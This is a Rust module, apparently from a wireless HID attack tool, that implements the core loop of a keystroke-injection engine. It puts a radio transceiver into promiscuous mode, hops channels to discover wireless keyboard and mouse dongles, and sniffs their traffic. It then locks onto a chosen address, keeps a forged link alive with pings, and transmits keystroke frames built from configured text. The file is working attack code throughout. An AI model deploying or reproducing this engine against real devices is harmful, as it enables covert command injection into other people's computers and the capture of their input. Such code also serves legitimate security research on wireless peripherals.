//! Reconnaissance Engine
//!
//! The stateful core: one control loop exclusively drives the
//! transceiver, hopping channels in promiscuous mode until a target is
//! locked, then holding the forged link open with keep-alive pings and
//! injecting keystroke frames.
//!
//! # Architecture
//! ```text
//! ┌────────────┐ set/clear  ┌────────────┐ per-tick read ┌────────────┐
//! │  Operator  │───────────▶│ TargetLock │◀──────────────│ Recon loop │
//! │  commands  │            │            │               │ (1 thread) │
//! └────────────┘            └────────────┘               └────────────┘
//!                                 ▲                        hop / ping
//!                    window held  │                        inject / sniff
//!                           ┌────────────┐                      │
//!                           │   Triage   │                      ▼
//!                           │ (bounded)  │               ┌────────────┐
//!                           └────────────┘               │ Transceiver│
//!                                                        └────────────┘
//! ```

pub mod target;

use std::sync::Arc;
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use anyhow::Context;
use parking_lot::{Mutex, RwLock};
use tracing::{debug, error, info, warn};

use crate::address::{AddressError, HidAddress};
use crate::config::ReconConfig;
use crate::directory::DeviceDirectory;
use crate::frames::{self, Command};
use crate::keymap;
use crate::radio::{
    Transceiver, TransceiverOpener, BOTTOM_CHANNEL, PING_PAYLOAD, TOP_CHANNEL, TRANSMIT_RETRIES,
    TRANSMIT_TIMEOUT_MS,
};

pub use target::TargetLock;

/// First byte of a sniffer-mode buffer that carries device traffic.
const SNIFF_MARKER: u8 = 0x00;

/// Engine lifecycle state.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EngineState {
    /// Not started
    Stopped,
    /// Opening and configuring the transceiver
    Configuring,
    /// Control loop running
    Running,
    /// Termination signalled, waiting for loop exit
    Stopping,
}

/// Which receive mode the transceiver was last switched into.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum OperatingMode {
    Idle,
    Promiscuous,
    SnifferLocked,
}

/// Per-tick scheduling decision, read once from the target lock.
#[derive(Debug, Clone, PartialEq, Eq)]
enum TickMode {
    Discovery,
    Locked(HidAddress),
}

/// HID reconnaissance and injection engine.
pub struct ReconEngine {
    config: ReconConfig,
    state: Arc<RwLock<EngineState>>,
    targets: Arc<TargetLock>,
    directory: Arc<DeviceDirectory>,
    opener: Mutex<TransceiverOpener>,
    handle: Mutex<Option<JoinHandle<()>>>,
}

impl ReconEngine {
    /// Create an engine over a transceiver opener and a shared device
    /// directory. Nothing touches the hardware until `start`.
    pub fn new(
        config: ReconConfig,
        directory: Arc<DeviceDirectory>,
        opener: TransceiverOpener,
    ) -> Self {
        Self {
            config,
            state: Arc::new(RwLock::new(EngineState::Stopped)),
            targets: Arc::new(TargetLock::new()),
            directory,
            opener: Mutex::new(opener),
            handle: Mutex::new(None),
        }
    }

    pub fn state(&self) -> EngineState {
        *self.state.read()
    }

    pub fn is_running(&self) -> bool {
        *self.state.read() == EngineState::Running
    }

    pub fn config(&self) -> &ReconConfig {
        &self.config
    }

    pub fn directory(&self) -> &Arc<DeviceDirectory> {
        &self.directory
    }

    /// Current sniff target, if one is locked.
    pub fn sniff_target(&self) -> Option<HidAddress> {
        self.targets.current()
    }

    /// Open and configure the transceiver, then launch the control
    /// loop. A configuration failure leaves the engine stopped; calling
    /// `start` on an engine that is not fully stopped is a no-op.
    pub fn start(&self) -> anyhow::Result<()> {
        {
            let mut state = self.state.write();
            match *state {
                EngineState::Running | EngineState::Configuring | EngineState::Stopping => {
                    return Ok(())
                }
                EngineState::Stopped => *state = EngineState::Configuring,
            }
        }

        let opened = {
            let mut opener = self.opener.lock();
            (*opener)()
        };
        let mut radio = match opened.context("opening transceiver") {
            Ok(radio) => radio,
            Err(e) => {
                *self.state.write() = EngineState::Stopped;
                return Err(e);
            }
        };

        if self.config.use_lna {
            if let Err(e) = radio.enable_lna() {
                radio.close();
                *self.state.write() = EngineState::Stopped;
                return Err(e).context("enabling LNA");
            }
            debug!("LNA enabled");
        }

        let run = ReconLoop::new(
            radio,
            self.config.clone(),
            Arc::clone(&self.state),
            Arc::clone(&self.targets),
            Arc::clone(&self.directory),
        );

        // publish the handle before Running becomes observable, so a
        // racing stop always finds a loop to join
        let mut state = self.state.write();
        *self.handle.lock() = Some(thread::spawn(move || run.run()));
        *state = EngineState::Running;

        Ok(())
    }

    /// Signal termination, wait for the loop to exit and release the
    /// transceiver. A stop racing a concurrent `start` waits for the
    /// configuration phase to settle, so it never leaves the engine
    /// running. In-flight triage windows drain on their own.
    pub fn stop(&self) {
        loop {
            let mut state = self.state.write();
            match *state {
                EngineState::Running => {
                    *state = EngineState::Stopping;
                    break;
                }
                // a concurrent start is mid-configure; let it settle
                EngineState::Configuring => {}
                EngineState::Stopped | EngineState::Stopping => return,
            }
            drop(state);
            thread::sleep(Duration::from_millis(1));
        }

        if let Some(handle) = self.handle.lock().take() {
            if handle.join().is_err() {
                error!("recon loop panicked");
            }
        }

        *self.state.write() = EngineState::Stopped;
        debug!("stopped");
    }

    /// Lock the sniff target to an address, or `clear` to resume
    /// discovery. A malformed address is rejected before any mutation;
    /// a request issued during a triage window blocks until it closes.
    pub fn set_sniff_mode(&self, arg: &str) -> Result<(), AddressError> {
        if arg.eq_ignore_ascii_case("clear") {
            debug!("restoring recon mode");
            self.targets.clear();
            return Ok(());
        }

        let address: HidAddress = arg.parse()?;
        info!("sniffing device {} ...", address);
        self.targets.set(address);
        Ok(())
    }
}

/// The control loop's private state. Owns the transceiver for the whole
/// run; everything shared sits behind the `Arc`s.
struct ReconLoop {
    radio: Box<dyn Transceiver>,
    config: ReconConfig,
    state: Arc<RwLock<EngineState>>,
    targets: Arc<TargetLock>,
    directory: Arc<DeviceDirectory>,
    channel: u8,
    mode: OperatingMode,
    /// Address the sniffer was last switched to, to detect retargeting.
    locked: Option<HidAddress>,
    last_hop: Instant,
    last_ping: Instant,
}

impl ReconLoop {
    fn new(
        radio: Box<dyn Transceiver>,
        config: ReconConfig,
        state: Arc<RwLock<EngineState>>,
        targets: Arc<TargetLock>,
        directory: Arc<DeviceDirectory>,
    ) -> Self {
        let now = Instant::now();
        Self {
            radio,
            config,
            state,
            targets,
            directory,
            channel: BOTTOM_CHANNEL,
            mode: OperatingMode::Idle,
            locked: None,
            last_hop: now,
            last_ping: now,
        }
    }

    fn run(mut self) {
        info!(
            "hopping on {} channels every {:?}",
            TOP_CHANNEL,
            self.config.hop_period()
        );

        while *self.state.read() == EngineState::Running {
            self.tick();
        }

        self.radio.close();
        debug!("device closed");
    }

    fn tick_mode(&self) -> TickMode {
        match self.targets.current() {
            Some(address) => TickMode::Locked(address),
            None => TickMode::Discovery,
        }
    }

    fn tick(&mut self) {
        match self.tick_mode() {
            TickMode::Discovery => self.hop(),
            TickMode::Locked(target) => {
                self.ping(&target);
                self.inject(&target);
            }
        }

        let buf = match self.radio.receive() {
            Ok(buf) => buf,
            Err(e) => {
                warn!("error receiving payload on channel {}: {}", self.channel, e);
                return;
            }
        };
        if buf.is_empty() {
            return;
        }

        // the target may have changed while we were blocked in receive
        match self.tick_mode() {
            TickMode::Discovery => self.on_discovery(&buf),
            TickMode::Locked(target) => self.on_sniffed(&target, &buf),
        }
    }

    /// Discovery: ensure promiscuous mode, advance one channel per hop
    /// period, wrapping past the top.
    fn hop(&mut self) {
        if self.mode != OperatingMode::Promiscuous {
            match self.radio.enter_promiscuous_mode() {
                Ok(()) => {
                    self.mode = OperatingMode::Promiscuous;
                    self.locked = None;
                    info!("device entered promiscuous mode");
                }
                Err(e) => error!("error entering promiscuous mode: {}", e),
            }
        }

        if self.last_hop.elapsed() >= self.config.hop_period() {
            let next = if self.channel >= TOP_CHANNEL {
                BOTTOM_CHANNEL
            } else {
                self.channel + 1
            };
            match self.radio.set_channel(next) {
                Ok(()) => {
                    self.channel = next;
                    self.last_hop = Instant::now();
                }
                Err(e) => warn!("error hopping on channel {}: {}", next, e),
            }
        }
    }

    /// Locked: ensure sniffer mode for the target, then keep the link
    /// alive with a ping every ping period. A failed ping triggers a
    /// bounded hunt across all channels for wherever the target hopped.
    fn ping(&mut self, target: &HidAddress) {
        if self.mode != OperatingMode::SnifferLocked || self.locked.as_ref() != Some(target) {
            match self.radio.enter_sniffer_mode(target.bytes()) {
                Ok(()) => {
                    self.mode = OperatingMode::SnifferLocked;
                    self.locked = Some(target.clone());
                    info!("device entered sniffer mode for {}", target);
                }
                Err(e) => error!("error entering sniffer mode for {}: {}", target, e),
            }
        }

        if self.last_ping.elapsed() < self.config.ping_period() {
            return;
        }

        if self
            .radio
            .transmit(&PING_PAYLOAD, TRANSMIT_TIMEOUT_MS, TRANSMIT_RETRIES)
            .is_ok()
        {
            self.last_ping = Instant::now();
            return;
        }

        for ch in BOTTOM_CHANNEL..=TOP_CHANNEL {
            if let Err(e) = self.radio.set_channel(ch) {
                error!("error setting channel {}: {}", ch, e);
                continue;
            }
            self.channel = ch;
            if self
                .radio
                .transmit(&PING_PAYLOAD, TRANSMIT_TIMEOUT_MS, TRANSMIT_RETRIES)
                .is_ok()
            {
                self.last_ping = Instant::now();
                return;
            }
        }
        // scan exhausted; the whole cycle retries next period
    }

    /// Locked: translate the configured text and transmit its frames in
    /// order. Any resolution failure or unmapped character aborts the
    /// whole pass; a transmit failure aborts the remaining sequence.
    fn inject(&mut self, target: &HidAddress) {
        let device = match self.directory.get(target.text()) {
            Some(device) => device,
            None => {
                warn!("could not find HID device {}", target);
                return;
            }
        };

        let builder = match frames::builder_for(device.device_type()) {
            Some(builder) => builder,
            None => {
                warn!(
                    "HID frame injection is not supported for device type {}",
                    device.device_type()
                );
                return;
            }
        };

        let translator = match keymap::translator_for(&self.config.keymap) {
            Some(translator) => translator,
            None => {
                warn!("could not find keymap for '{}' layout", self.config.keymap);
                return;
            }
        };

        let mut commands = Vec::new();
        for c in self.config.inject_text.chars() {
            match translator.lookup(c) {
                Some(key) => commands.push(Command {
                    character: c,
                    code: key.code,
                    mode: key.mode,
                }),
                None => {
                    warn!("could not find HID command for '{}'", c);
                    return;
                }
            }
        }

        let set = builder.build(&commands);
        info!("injecting {} HID commands ...", commands.len());

        let total = set.frames.len();
        let mut bytes = 0usize;
        for (i, frame) in set.frames.iter().enumerate() {
            if let Err(e) = self
                .radio
                .transmit(frame, TRANSMIT_TIMEOUT_MS, TRANSMIT_RETRIES)
            {
                error!("error sending frame #{} of {}: {}", i, total, e);
                return;
            }
            bytes += frame.len();
            if i + 1 < total && !set.delay.is_zero() {
                thread::sleep(set.delay);
            }
        }

        info!("sent {} frames for {} bytes total", total, bytes);
    }

    /// Discovery payload: first five bytes are the transmitter address,
    /// the rest a payload sample. A brand-new device opens a triage
    /// window to guess its type before discovery resumes.
    fn on_discovery(&mut self, buf: &[u8]) {
        if buf.len() < 5 {
            return;
        }

        let mut raw = [0u8; 5];
        raw.copy_from_slice(&buf[..5]);
        let payload = &buf[5..];
        debug!(
            "detected device {:02x?} on channel {} (payload {:02x?})",
            raw, self.channel, payload
        );

        let (is_new, device) = self.directory.add_if_new(raw, self.channel, payload);
        if is_new {
            let address = device.address().clone();
            info!("new HID device {}, sniffing it for a while ...", address);

            let targets = Arc::clone(&self.targets);
            let period = self.config.sniff_period();
            thread::spawn(move || targets.triage_window(address, period));
        }
    }

    /// Sniffer payload: the marker byte prefixes real device traffic;
    /// anything else is dongle chatter and gets dropped.
    fn on_sniffed(&mut self, target: &HidAddress, buf: &[u8]) {
        if buf.first() != Some(&SNIFF_MARKER) {
            return;
        }

        let payload = &buf[1..];
        debug!("sniffed payload {:02x?} for {}", payload, target);

        if !self.directory.record_traffic(target.text(), payload, self.channel) {
            warn!("got a payload for unknown device {}", target);
        }
    }
}
